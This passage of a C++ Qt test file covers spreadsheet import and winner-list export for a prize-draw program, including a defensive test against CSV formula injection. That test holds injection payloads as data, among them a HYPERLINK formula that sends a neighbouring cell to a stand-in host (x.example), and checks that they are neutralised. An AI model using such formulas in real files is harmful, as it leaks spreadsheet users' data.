        wide += ",列" + QByteArray::number(c);
    wide += "\n" + (QByteArray(30'000, 'x') + ',').repeated(300) + "\n";
    env.writeFile("wide.csv", wide);
    env.dialogs.files.enqueue(env.path("wide.csv"));
    QTest::mouseClick(child<QPushButton>(dialog, "btn_insheet"), Qt::LeftButton);
    // Reading 9 MB of cells takes some 6 s in the sanitizer build: the wait is for the preview, not a
    // measure of its speed.
    QTRY_VERIFY_WITH_TIMEOUT(dialog.findChild<SpreadsheetImportDialog*>(), 60000);
    auto* preview = dialog.findChild<SpreadsheetImportDialog*>();
    QTRY_VERIFY(preview->isVisible());
    QVERIFY(child<QLabel>(*preview, "columnsNote")->isVisibleTo(preview));
    auto* table = child<QTableWidget>(*preview, "previewTable");
    QCOMPARE(table->columnCount(), 256);
    QCOMPARE(table->item(1, 0)->text().size(), SpreadsheetImportDialog::kShownChars + 1);
    QVERIFY(preview->frameGeometry().width() <= preview->screen()->availableGeometry().width());
}

void TestSpreadsheet::exportRoundTrip() {
    TestEnv env;
    env.writeGbk("prize.db",
                 QStringLiteral("[JP]\r\nName1=一等奖\r\nprizename1=笔记本电脑\r\nName2=二等奖\r\nNum2=1\r\n"
                                "[Setting]\r\nTitle1=年会/2025\r\n"));
    WinnerLists lists;
    fillEvent(lists);
    const QList<QStringList> table =
        ResultsExport::table(ResultsExport::rows(lists, ResultsExport::goodsByPrize()));
    const QStringList header{QStringLiteral("时间"),   QStringLiteral("奖项"), QStringLiteral("奖品"),
                             QStringLiteral("中奖人"), QStringLiteral("列2"),  QStringLiteral("列3"),
                             QStringLiteral("状态")};
    QCOMPARE(table.size(), 5);
    QCOMPARE(table.at(0), header);
    QCOMPARE(table.at(1),
             (QStringList{QStringLiteral("2025-01-18 20:31:05"), QStringLiteral("一等奖"),
                          QStringLiteral("笔记本电脑"), QStringLiteral("张三"), QStringLiteral("00123"),
                          QStringLiteral("销售部"), QStringLiteral("中奖")}));
    QCOMPARE(table.at(2).mid(3), (QStringList{QStringLiteral("Li, \"Si\""), QStringLiteral("00456"),
                                              QStringLiteral("研发部"), QStringLiteral("中奖")}));
    QCOMPARE(table.at(3),
             (QStringList{QStringLiteral("2025-01-18 20:41:05"), QStringLiteral("二等奖"), QString(),
                          QStringLiteral("王五"), QString(), QString(), QStringLiteral("已取消")}));
    QCOMPARE(table.at(4), (QStringList{QString(), QStringLiteral("二等奖"), QString(), QStringLiteral("赵六"),
                                       QStringLiteral("13812345678"), QString(), QStringLiteral("补抽")}));

    // The padded table as it reads back: the trailing empty cells of a row are not kept.
    QList<QStringList> trimmed = table;
    for (QStringList& row : trimmed)
        while (!row.isEmpty() && row.constLast().isEmpty())
            row.removeLast();

    // CSV through the main menu: UTF-8 with its mark, read back cell for cell.
    TForm1 form;
    form.winnerLists().setAll(lists.all());
    env.dialogs.saveFiles.enqueue(env.path("results"));
    env.dialogs.saveFilters.enqueue(ResultsExport::kCsvFilter);
    child<QAction>(form, "exportResults")->trigger();
    // Offered: a dated name after the event's title in the event folder, its suffix left to the format.
    QCOMPARE(env.dialogs.boxes.at(env.dialogs.boxes.size() - 2).suggested,
             env.path("年会2025-中奖名单-20250118"));
    QCOMPARE(env.dialogs.texts().constLast(),
             QStringLiteral("已导出 4 条中奖记录到：") + env.path("results.csv"));
    const QByteArray csv = env.readFile("results.csv");
    QVERIFY(csv.startsWith("\xEF\xBB\xBF"));
    QVERIFY(csv.contains("\"Li, \"\"Si\"\"\""));
    SheetTable back = SheetImport::readFile(env.path("results.csv"));
    QCOMPARE(back.rows(), trimmed);
    QVERIFY(SheetImport::looksLikeHeader(back));

    // xlsx through the all-winners window's menu, read back by this program and by openpyxl.
    Tfallprize window(form.session());
    env.dialogs.saveFiles.enqueue(env.path("results.xlsx"));
    child<QAction>(window, "exportResults")->trigger();
    QCOMPARE(env.dialogs.texts().constLast(),
             QStringLiteral("已导出 4 条中奖记录到：") + env.path("results.xlsx"));
    back = SheetImport::readFile(env.path("results.xlsx"));
    QCOMPARE(back.rows(), trimmed);
    // Imported again, the export's winner columns give back the entrant lines as the import joins them.
    QCOMPARE(SheetImport::entrantLines(back, {3, 4, 5}, true).constFirst(),
             QStringLiteral("张三 00123 销售部"));
    // Cells a spreadsheet would read otherwise: a control character, a text that looks like an escape.
    const QList<QStringList> tricky{
        {QStringLiteral("_x0041_"), QStringLiteral("a\u0001b"), QStringLiteral("_x00")}};
    ResultsExport::writeXlsx(env.path("tricky.xlsx"), tricky);
    QCOMPARE(SheetImport::readFile(env.path("tricky.xlsx")).rows(), tricky);

    if (!haveOpenpyxl())
        QSKIP("python3-openpyxl is not installed");
    const std::optional<QString> seen =
        runPython(QStringLiteral("import sys, openpyxl\n"
                                 "ws = openpyxl.load_workbook(sys.argv[1]).active\n"
                                 "print(ws.freeze_panes, ws['E2'].value, ws['E2'].data_type,\n"
                                 "      ws.column_dimensions['D'].width > 8, ws['A1'].font.b,\n"
                                 "      ws.max_row, ws['G5'].value)\n"),
                  {env.path("results.xlsx")});
    QVERIFY(seen);
    QCOMPARE(seen->trimmed(), QStringLiteral("A2 00123 s True True 5 补抽"));
}

void TestSpreadsheet::csvExportRunsNoFormula() {
    // Entrant names from outside that a spreadsheet would run: a link that sends the next cell away, a
    // sum, a tab before a formula (the split of the line trims it), a CR before one.
    TestEnv env;
    WinnerLists lists;
    lists.setPrizeNames({QStringLiteral("一等奖")});
    lists.appendAll(WinnerLists::headerLine(3, QStringLiteral("一等奖"), QDateTime(QDate(2025, 1, 18), {})));
    const QStringList names{QStringLiteral("=HYPERLINK(\"http://x.example/?\"&D3,\"点我\")"),
                            QStringLiteral("\t=2+2\t-5\t+1+1"), QStringLiteral("@SUM(1,2)  \r=3*3  a=b")};
    for (const QString& name : names)
        lists.appendAll(WinnerLists::winnerLine(QStringLiteral("一等奖"), name));
    QList<QStringList> table = ResultsExport::table(ResultsExport::rows(lists, {}));
    QCOMPARE(table.at(2).mid(3, 3), (QStringList{"=2+2", "-5", "+1+1"}));
    // A tab or a CR at the start of a cell (the split trims them off names).
    table.append({QString(), QString(), QString(), QStringLiteral("\t=4+4"), QStringLiteral("\r=5+5")});
    ResultsExport::writeCsv(env.path("results.csv"), table);
    const QStringList expected{QStringLiteral("'=HYPERLINK(\"http://x.example/?\"&D3,\"点我\")"),
                               QStringLiteral("'=2+2"),
                               QStringLiteral("'-5"),
                               QStringLiteral("'+1+1"),
                               QStringLiteral("'@SUM(1,2)"),
                               QStringLiteral("'=3*3"),
                               QStringLiteral("a=b"),
                               QStringLiteral("'\t=4+4"),
                               QStringLiteral("'\r=5+5")};
    const SheetTable back = SheetImport::readFile(env.path("results.csv"));
    QStringList cells;
    for (int row = 1; row < back.rowCount(); ++row)
        for (int column = 3; column < 6; ++column)
            if (!back.cellView(row, column).isEmpty())
                cells << back.cell(row, column);
    QCOMPARE(cells, expected);

    // A spreadsheet application opens it (LibreOffice, formulas evaluated as its CSV import does by
    // default) and keeps every cell a text (a line break its own way); openpyxl reads what it made.
    const QString soffice = QStandardPaths::findExecutable(QStringLiteral("soffice"));
    if (soffice.isEmpty() || !haveOpenpyxl())
        QSKIP("LibreOffice (libreoffice-calc-nogui) and python3-openpyxl are needed to open the CSV");
    QProcess convert;
    convert.start(soffice, {QStringLiteral("-env:UserInstallation=file://") + env.path("profile"),
                            QStringLiteral("--headless"), QStringLiteral("--norestore"),
                            QStringLiteral("--infilter=CSV:44,34,76,1"), QStringLiteral("--convert-to"),
                            QStringLiteral("xlsx"), QStringLiteral("--outdir"), env.dir.path(),
                            env.path("results.csv")});
    QVERIFY(convert.waitForFinished(180000));
    QVERIFY2(QFile::exists(env.path("results.xlsx")), convert.readAllStandardError().constData());
    const std::optional<QString> seen =
        runPython(QStringLiteral("import sys, openpyxl\n"
                                 "ws = openpyxl.load_workbook(sys.argv[1]).active\n"
                                 "for row in ws.iter_rows(min_row=2, min_col=4, max_col=6):\n"
                                 "    for c in row:\n"
                                 "        if c.value is not None:\n"
                                 "            print(c.data_type + str(c.value).replace('\\t', '<TAB>')\n"
                                 "                  .replace('\\r', '<BR>').replace('\\n', '<BR>'))\n"),
                  {env.path("results.xlsx")});
    QVERIFY(seen);
    QStringList shown;
    for (const QString& cell : expected)
        shown << u's' + QString(cell)
                            .replace(u'\t', QLatin1String("<TAB>"))
                            .replace(u'\r', QLatin1String("<BR>"))
                            .replace(u'\n', QLatin1String("<BR>"));
    QCOMPARE(seen->trimmed().split(u'\n'), shown);
}

void TestSpreadsheet::exportFailureKeepsFile() {
    TestEnv env;
    env.writeGbk("抽奖名单.txt", QStringLiteral("甲\r\n"));
    TForm1 form;
    fillEvent(form.winnerLists());
    env.dialogs.clear();
    // Nothing to export: no dialog.
    WinnerLists empty;
    ResultsExport::run(empty);
    QCOMPARE(env.dialogs.boxes.size(), 1);
    QCOMPARE(env.dialogs.boxes.constLast().kind, QStringLiteral("message"));

    // A read-only file is refused whole, for both formats; a cancelled dialog writes nothing.
    for (const QString& name : {QStringLiteral("old.xlsx"), QStringLiteral("old.csv")}) {
        env.writeFile(name, "keep me");
        QFile::setPermissions(env.path(name), QFile::ReadOwner);
        env.dialogs.clear();
        env.dialogs.saveFiles.enqueue(env.path(name));
        child<QAction>(form, "exportResults")->trigger();
        QCOMPARE(env.dialogs.boxes.constLast().icon, Dialogs::Icon::Critical);
        QVERIFY(env.dialogs.boxes.constLast().text.contains(env.path(name)));
        QCOMPARE(env.readFile(name), QByteArray("keep me"));
    }
    // A cell longer than a spreadsheet takes: refused, the old file kept, nothing left beside it.
    env.writeFile("long.xlsx", "keep me");
    QVERIFY_THROWS_EXCEPTION(OperationError,
                             ResultsExport::writeXlsx(env.path("long.xlsx"), {{QString(40000, u'x')}}));
    QCOMPARE(env.readFile("long.xlsx"), QByteArray("keep me"));
    QCOMPARE(QFileInfo(env.path("long.xlsx")).dir().entryList({QStringLiteral("long.xlsx*")}, QDir::Files),
             QStringList{QStringLiteral("long.xlsx")});
    env.dialogs.clear();
    child<QAction>(form, "exportResults")->trigger();
    QCOMPARE(env.dialogs.boxes.size(), 1);
    QCOMPARE(env.dialogs.boxes.constLast().kind, QStringLiteral("saveFile"));
}

QTEST_MAIN(TestSpreadsheet)
#include "test_spreadsheet.moc"
